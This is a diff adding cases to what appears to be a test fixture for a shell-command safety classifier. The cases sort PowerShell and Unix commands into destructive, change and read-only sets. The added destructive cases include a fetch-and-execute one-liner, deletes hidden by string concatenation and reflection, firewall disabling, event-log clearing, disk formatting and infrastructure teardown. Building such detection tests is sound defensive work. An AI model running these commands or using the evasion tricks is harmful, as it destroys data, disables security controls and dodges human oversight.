@@ -136,6 +136,53 @@ Start-Process cmd -ArgumentList '/c del x'
 Remove-Item x -WhatIf:$false
 rm x -Confirm
 Get-Item x | & Remove-Item
+$x.'Delete'()
+$x."Delete"()
+$x.$method()
+$items.ForEach('Delete')
+su -c 'rm x'
+$x.("De" + "lete")()
+[IO.File]::'Delete'('x')
+$x::$method(1)
+$x.psobject.Methods['Delete'].Invoke()
+& "rm" x
+. "del" x
+iex (irm http://x/y.ps1)
+iex ('r' + 'm x')
+iex 'gci '$y
+$alias:x = 'Remove-Item'
+${alias:x} = 'rm'
+${function:f} = 'rm x'
+$function:f = $y
+New-Item alias:x -Value Remove-Item
+New-Item -Path Function:f -Value 'rm x'
+gps | Invoke-CimMethod -MethodName Terminate
+Invoke-CimMethod -ClassName Win32_OperatingSystem -MethodName Reboot
+icim Win32_OperatingSystem Win32Shutdown
+Invoke-WmiMethod -Class Win32_Service -Name StopService
+find / -name x -delete
+find . -name x -exec rm x +
+rm.exe -rf x
+chmod -R 777 /
+sed -i s/a/b/ x
+umount /data
+iisreset
+format d: /q
+format.com d:
+schtasks /delete /tn x
+netsh advfirewall set allprofiles state off
+icacls x /reset
+fsutil file setzerodata x
+wevtutil clear-log System
+dism /online /disable-feature
+docker compose down
+docker-compose -f x.yml down
+docker compose -f x.yml down
+helm uninstall x
+terraform destroy
+pip uninstall x
+zfs destroy x
+ip link set eth0 down
 """
 #: held by ``read`` alone
 CHANGES = r"""
@@ -166,6 +213,9 @@ $x.Enabled = $false
 Get-Service x | % Start
 python -c 'x'
 Import-Certificate x
+New-Item alias:x -Value Get-Item
+$function:f = { Get-Item x }
+Invoke-CimMethod -ClassName Win32_Process -MethodName Create
 """
 #: let through by both
 READS = r"""
@@ -223,6 +273,13 @@ exit
 Get-Item @p
 [pscustomobject]@{ Name = 'rm' }
 if ($x -eq 'rm') { Get-Date }
+$x.'Name'
+$x.'GetType'()
+Get-Item alias:rm
+Get-Content function:rm
+Get-Alias rm
+{ Get-Date }.Invoke | Get-Member
+'Delete'.Length
 """
 
 
